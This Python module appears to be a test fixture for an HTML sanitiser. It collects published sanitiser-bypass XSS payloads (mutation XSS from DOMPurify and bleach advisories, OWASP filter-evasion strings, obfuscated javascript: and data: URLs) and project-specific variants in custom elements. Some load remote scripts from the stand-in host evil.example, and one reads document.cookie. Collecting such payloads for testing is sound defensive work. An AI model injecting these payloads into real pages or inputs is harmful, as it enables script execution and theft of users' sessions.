"""HTML that went through a sanitiser and ran: each as it was published, and where.

A sign of each is that it would call `alert`, lead to `evil.example` or bring what a body may not
hold. Nothing of it may be stored, shown or run.
"""

from typing import Final

# Where they were published.
PURIFY: Final = "github.com/cure53/DOMPurify, test/fixtures/expect.mjs"
OWASP: Final = "OWASP, XSS Filter Evasion Cheat Sheet"
HTML5SEC: Final = "html5sec.org, by way of DOMPurify, test/fixtures/expect.mjs"
AMMONIA: Final = "github.com/rust-ammonia/ammonia"
BLEACH: Final = "github.com/mozilla/bleach, security advisories"

MUTATING: Final = {
    # DOMPurify, issue 482 and HackerOne 1024734: the version before 2.2.1
    "nested forms and mglyph": '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    # CVE-2020-26870: before 2.0.17
    "nested forms in MathML": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mglyph and style": "<form><math><mtext></form><form><mglyph><style><img src=x onerror=alert(1)>",
    "mglyph in a table": "<math><mtext><table><mglyph><style><math href=javascript:alert(1)>CLICKME</math>",
    "comment in a style in a table": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "SVG in MathML in a table": '<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    "headings and links in MathML": "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror='alert(1)'>\"></style></h1>",
    "element nobody knows in SVG": 'a<svg><xss><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt/s>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror=alert(1)>">',
    "element nobody knows in MathML": "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title=\"</style><img src='#' onerror='alert(1)'>\">",
    "textarea leaving SVG": "<svg></p><textarea><title><style></textarea><img src=x onerror=alert(1)></style></title></svg>",
    "title leaving SVG": '<svg></p><title><a id="</title><img src=x onerror=alert()>"></textarea></svg>',
    "textarea leaving MathML": "<math></p><textarea><mi><style></textarea><img src=x onerror=alert(1)></mi></math>",
    "template leaving SVG": "<svg></p><title><template><style></title><img src=x onerror=alert(1)>",
    "template leaving MathML": "<math></br><textarea><mtext><template><style></textarea><img src=x onerror=alert(1)>",
    "MathML in SVG": "<svg></p><math><title><style><img src=x onerror=alert(1)></style></title>",
    "attribute in a style in SVG": '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
    "attribute in foreignObject": '<svg><foreignobject><p><style><p title="</style><iframe onload&#x3d;alert(1)<!--"></style>',
    "attribute in annotation-xml": '<math><annotation-xml encoding="text/html"><p><style><p title="</style><iframe onload&#x3d;alert(1)<!--"></style>',
    "SVG in xmp": "<xmp><svg><b><style><b title='</style><img onerror=alert(1) src>'>",
    "SVG in noembed": "<noembed><svg><b><style><b title='</style><img onerror=alert(1) src>'>",
    "listing": '<listing>&lt;img onerror="alert(1);//" src=x&gt;<t t></listing>',
    "comment after a textarea": "<textarea>@shafigullin</textarea><!--</textarea><img src=x onerror=alert(1)>-->",
    "noscript ends in a comment": "<b><noscript><!-- </noscript><img src=x onerror=alert(1) --></noscript>",
    "noscript ends in an attribute": '<b><noscript><a alt="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "templates in templates": "<body><template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></s></template>",
    "template in a select": "<select><template><img src=x onerror=alert(1)></template></select>",
    "style in an option": "\x01<option><style></option></select><b><img src=x onerror=alert(1)></style></option>",
    "iframe in an option": "<option><iframe></select><b><script>alert(1)</script>",
    "two styles": "<b><style><style/><img src=x onerror=alert(1)>",
    "a style that closes itself": "<b><style><style////><img src=x onerror=alert(1)></style>",
    "style in SVG": "<svg><style><img/src=x onerror=alert(128)// </b>",
    "xmp and a condition": "<xmp>\n<%\n</xmp>\n<img alt='%></xmp><img src=xx onerror=alert(134)//'>\n<script>\nx='<%'\n</script> %>/\nalert(2)\n</script>",
    "bang ends a comment": "<!-- `<img/src=xxx onerror=alert(133)//--!>",
    "comments of conditions": "<!--[if]><script>alert(115)</script -->\n<!--[if<img src=x onerror=alert(2)//]> -->",
    # RUSTSEC-2025-0071 and RUSTSEC-2026-0193 name these ways into another namespace
    "annotation-xml without its encoding": '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    "SVG is taken away and its style stays": "<svg><desc><style><!--</style><img src=x onerror=alert(1)>--></style></desc></svg>",
    "MathML is taken away and its style stays": '<math><mi><style><a id="</style><img src=x onerror=alert(1)>"></a></style></mi></math>',
    # CVE-2020-6802, CVE-2020-6816 and CVE-2021-23980, of bleach
    "noscript and raw text": "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
    "raw text in SVG": "<svg><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style></svg>",
    "comment in MathML": "<math></p><style><!--</style><img src/onerror=alert(1)>--></style></math>",
}  # fmt: skip
SCHEMES: Final = {
    "script": "javascript:alert(1)",
    "in all letters": "JaVaScRiPt:alert(1)",
    "tab": "jav\tascript:alert(1)",
    "written tab": "jav&#x09;ascript:alert(1)",
    "newline": "jav&#x0A;ascript:alert(1)",
    "return": "jav&#x0D;ascript:alert(1)",
    "named tab and newline": "java&Tab;script&NewLine;:alert(1)",
    "named colon": "javascript&colon;alert(1)",
    "low control characters": "\x01java\x03script:alert(1)",
    "shift out and blanks": " &#14;  javascript:alert(1)",
    "line separator": "\u2028javascript:alert(1)",
    "no-break space": "&#xA0javascript:alert(1)",
    "ogham space": "&#x1680;javascript:alert(1)",
    "zero width space": "&#x200B;javascript:alert(1)",
    "ideographic space": "&#x3000;javascript:alert(1)",
    "decimal": "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "decimal without end": "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
    "hexadecimal without end": "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3Aalert(1)",
    "null": "java\0script:alert(1)",
    "comment as an authority": "javascript://evil.example/%0Aalert(1)",
    "visual basic": "vbscript:msgbox(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "data in 64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data, nasty": "data:,evilnastystuff",
    "source of a page": "view-source:http://evil.example/",
    "blob": "blob:https://evil.example/1",
    "file system": "filesystem:https://evil.example/temporary/x.html",
    "slashes": "//evil.example/",
    "slash and backslash": "/\\evil.example/",
    "tab between slashes": "/&#x09;/evil.example/",
}  # fmt: skip
PLAIN: Final = {
    OWASP: [
        "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
        "javascript:/*--></title></style></textarea></script></xmp>\n<svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
        '<a onmouseover="alert(document.cookie)">xxs link</a>',
        '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
        "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
        "<IMG SRC=# onmouseover=\"alert('xxs')\">",
        '<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>',
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
        '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
        "<SCRIPT SRC=http://evil.example/xss.js?< B >",
        "<iframe src=http://evil.example/scriptlet.html <",
        '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
        "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
        "<svg/onload=alert('XSS')>",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
        "<BASE HREF=\"javascript:alert('XSS');//\">",
        "<LINK REL=\"stylesheet\" HREF=\"http://evil.example/xss.css\">",
        "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
        "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">x",
        '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">',
        '<OBJECT TYPE="text/x-scriptlet" DATA="http://evil.example/scriptlet.html"></OBJECT>',
        '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(1)"></B></I></XML>',
    ],
    HTML5SEC: [
        '<form id="test"></form><button form="test" formaction="javascript:alert(1)">X</button>',
        "<iframe srcdoc=\"<svg onload=alert(1)>\"></iframe>",
        "<img src onerror /\" '\"= alt=alert(106)//\">",
        "<img src=\"x` `<script>alert(102)</script>\"` `>",
        '<a href=http://foo.bar/#x=`y></a><img alt="`><img src=xx onerror=alert(108)></a>">',
        '<svg>\n<a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="?">\n<circle r="400"></circle>\n<animate attributeName="xlink:href" begin="0" from="javascript:alert(137)" to="&" />\n</a>',
        '<svg xmlns="http://www.w3.org/2000/svg" id="x">\n<listener event="load" handler="#y" xmlns="http://www.w3.org/2001/xml-events" observer="x"/>\n<handler id="y">alert(127)</handler>\n</svg>',
        '<div id="x">x</div>\n<xml:namespace prefix="t">\n<import namespace="t" implementation="#default#time2">\n<t:set attributeName="innerHTML" targetElement="x" to="<img\x0bsrc=x\x0bonerror\x0b=alert(116)>">',
        "<video poster=javascript:alert(1)//></video><video><source onerror=\"alert(1)\">",
        "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>",
    ],
    PURIFY: [
        "<form onmouseover='alert(1)'><input name=\"attributes\"><input name=\"attributes\">",
        "<div onclick=alert(0)><form onsubmit=alert(1)><input onfocus=alert(2) name=parentNode>123</form></div>",
        "<img src=x id/=' onerror=alert(1)//'>",
        '<a href="#some-code-here" id="location">invisible',
    ],
    f"{AMMONIA}, pull request 250": [
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><a><set attributeName=\"href\" to=\"javascript:alert('SET_XSS')\"></set><text y=\"30\">Click set</text></a></svg>",
    ],
}  # fmt: skip
# The same, where it would stand in what a body has of its own.
OF_OURS: Final = [
    '<stat-ref key="a\\" onmouseover=alert(1) x=\\"">x</stat-ref>',
    '<stat-ref key=a><img src=x onerror=alert(1)></stat-ref>',
    '<p>x<foot-note><svg><style><img src=x onerror=alert(1)></style></svg>y</foot-note></p>',
    "<p>x<foot-note><a href=javascript:alert(1)>y</a></foot-note></p>",
    '<p>x<foot-note>y</p><table><tr><td></foot-note><img src=x onerror=alert(1)></p>',
    '<picture-card key="1" alt="&quot;><img src=x onerror=alert(1)>" onload=alert(1)>x<script>alert(1)</script></picture-card>',
    '<picture-card key="1 onerror=alert(1)">x</picture-card>',
    "<blockquote><p>x</p><footer speaker=\"&quot;&gt;&lt;img src=x onerror=alert(1)&gt;\" href=\"javascript:alert(1)\" date=\"2026&quot; onclick=&quot;alert(1)\">y</footer></blockquote>",
    "<blockquote><p>x</p><footer speaker='</footer><script>alert(1)</script>' onclick=alert(1)>y</footer></blockquote>",
    "<table><caption><img src=x onerror=alert(1)>&lt;script&gt;alert(1)&lt;/script&gt;\" onfocus=alert(1)</caption><tr><td onclick=alert(1) background=javascript:alert(1)>x<td>y</table>",
    "<table><tr><td><svg></td></table><style><img src=x onerror=alert(1)></style>",
    "<p title='</p><script>alert(1)</script>' lang='\" onclick=alert(1)'>x<b title='</b><img src=x onerror=alert(1)>'>y</b></p>",
    '<call-to-action onclick=alert(1)><p><img src=x onerror=alert(1)>a</p><a href="javascript:alert(1)" onclick=alert(1)>b</a><a href=//evil.example>c</a></call-to-action>',
    '<card-list><card-item href="javascript:alert(1)"><picture-card key="1" onload=alert(1)></picture-card><h3 onclick=alert(1)><a href="data:text/html,x">a</a></h3><p><svg onload=alert(1)>b</p></card-item></card-list>',
    '<map-place src="//evil.example"><p>a<iframe src="javascript:alert(1)"></iframe></p><a href="&#106;avascript:alert(1)">b</a></map-place>',
    '<newest-list count="3 onclick=alert(1)" topic="1;alert(1)" kind="<script>" onclick=alert(1)><script>alert(1)</script></newest-list>',
    '<media-player recording="1 onerror=alert(1)" src="javascript:alert(1)" autoplay><video src=x onerror=alert(1)></media-player>',
    '<outside-film src="//evil.example"><p>a<iframe src="//evil.example"></iframe></p><a href="javascript:alert(1)">b</a></outside-film>',
    '<people-list authors="1 2 javascript:alert(1)" onload=alert(1)><img src=x onerror=alert(1)></people-list>',
    '<details open ontoggle=alert(1)><summary onclick=alert(1)><img src=x onerror=alert(1)>a</summary><p onclick=alert(1)>b<a href="javascript:alert(1)">c</a></p></details>',
    "<pull-quote><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">x</pull-quote>",
]  # fmt: skip

PUBLISHED: Final[list[str]] = [
    *MUTATING.values(),
    *(f'<p><a href="{address}">x</a></p>' for address in SCHEMES.values()),
    *(html for each in PLAIN.values() for html in each),
]
ALL: Final = [*PUBLISHED, *OF_OURS]
